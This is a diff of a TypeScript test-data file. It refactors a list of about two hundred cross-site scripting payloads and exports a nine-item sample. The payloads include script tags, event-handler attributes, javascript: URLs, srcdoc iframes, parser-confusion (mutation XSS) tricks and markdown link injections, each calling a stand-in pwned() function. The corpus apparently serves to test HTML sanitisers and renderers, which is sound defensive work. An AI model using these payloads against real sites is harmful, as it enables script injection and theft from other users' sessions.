@@ -3,9 +3,21 @@ const RUN = "pwned()";
 
 const EVENTS = "error load mouseover focus toggle animationstart pointerenter wheel begin";
 
+/** One of each kind: tags, attributes, documents, addresses, what is parsed twice, and markdown. */
+export const few: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<a href="javascript:${RUN}">go</a>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `"><script>${RUN}</script>`,
+  `[go](javascript:${RUN})`,
+  "```html\n<script>" + RUN + "</script>\n```",
+];
+
 /** Ways to be a script in a page that puts a text into itself as it came. */
 const markup = [
-  `<script>${RUN}</script>`,
   `<ScRiPt>${RUN}</sCrIpT>`,
   `<script/x>${RUN}</script>`,
   `<script\n>${RUN}</script\t>`,
@@ -20,7 +32,6 @@ const markup = [
   `</textarea><script>${RUN}</script>`,
   `--><script>${RUN}</script>`,
   `]]><script>${RUN}</script>`,
-  `<img src=x onerror=${RUN}>`,
   `<IMG SRC=x ONERROR=${RUN}>`,
   `<img/src=x/onerror=${RUN}>`,
   `<img src="x"onerror="${RUN}">`,
@@ -38,7 +49,6 @@ const markup = [
   `<img srcset=",,x" onerror=${RUN}>`,
   `<image src=x onerror=${RUN}>`,
   `<picture><source srcset=x><img onerror=${RUN}></picture>`,
-  `<svg onload=${RUN}>`,
   `<svg/onload=${RUN}//`,
   `<svg><script>${RUN}</script></svg>`,
   `<svg><script href=data:,${RUN} /></svg>`,
@@ -52,7 +62,6 @@ const markup = [
   `<math href="javascript:${RUN}">go</math>`,
   `<math><mi xlink:href="data:x,<script>${RUN}</script>">x</mi></math>`,
   `<iframe src="javascript:parent.${RUN}"></iframe>`,
-  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
   `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
   `<iframe onload=${RUN}></iframe>`,
   `<object data="javascript:${RUN}"></object>`,
@@ -84,7 +93,6 @@ const markup = [
   `<form action="javascript:${RUN}"><button>go</button></form>`,
   `<form><button formaction="javascript:${RUN}">go</button></form>`,
   `<isindex action="javascript:${RUN}" type=image>`,
-  `<a href="javascript:${RUN}">go</a>`,
   `<a href="jav\tascript:${RUN}">go</a>`,
   `<a href="jav&#x0a;ascript:${RUN}">go</a>`,
   `<a href="&#106;avascript:${RUN}">go</a>`,
@@ -102,7 +110,6 @@ const markup = [
   `<div style="width:expression(${RUN})">go</div>`,
   `<b style="position:fixed;inset:0;z-index:9">covers all</b>`,
   // What is sound until somebody parses it twice, or cleans it.
-  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
   `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
@@ -124,7 +131,6 @@ const markup = [
   `" onmouseover="${RUN}" x="`,
   `' onfocus='${RUN}' autofocus x='`,
   "` onload=`" + RUN + "` x=`",
-  `"><script>${RUN}</script>`,
   `'><img src=x onerror=${RUN}>`,
   `';${RUN};'`,
   `";${RUN};//`,
@@ -148,13 +154,11 @@ const markup = [
   `https://javascript:${RUN}@example.org/`,
   `www.example.org/?q=<script>${RUN}</script>`,
   `https://example.org/#"><svg onload=${RUN}>`,
-  `[go](javascript:${RUN})`,
   `[go](java\nscript:${RUN})`,
   `[go]: javascript:${RUN}`,
   `![x](x"onerror="${RUN})`,
   `![x](javascript:${RUN})`,
   `<javascript:${RUN}>`,
-  "```html\n<script>" + RUN + "</script>\n```",
   "`<img src=x onerror=" + RUN + ">`",
   `**[*go*](JAVASCRIPT:${RUN})**`,
   `[go]( javascript:${RUN})`,
@@ -195,6 +199,7 @@ const markup = [
 
 /** About two hundred texts, each of another kind. */
 export const payloads: readonly string[] = [
+  ...few,
   ...markup,
   ...EVENTS.split(" ").flatMap((event) => [
     `<x on${event}=${RUN} tabindex=1>go</x>`,
